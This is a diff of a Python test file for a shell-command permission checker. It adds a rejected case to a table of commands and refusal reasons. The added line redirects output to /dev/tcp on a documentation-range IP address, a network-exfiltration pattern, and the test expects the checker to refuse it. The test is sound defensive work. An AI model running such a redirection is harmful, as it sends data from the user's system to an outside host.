@@ -152,6 +152,7 @@ def test_a_line_of_allowed_parts_runs(command: str) -> None:
         ("mytool <> src/app.py", "no rule says"),
         ("mytool x > .npmrc", ".npmrc can change what programs do"),
         ("> out", "no rule says"),
+        ("mytool > /dev/tcp/192.0.2.1/80", "devices"),
         ("sort src/*.py", "no rule allows"),
         ("touch src/x", "changes files"),
         ("mytool <<E\nx\nE", "here-document"),
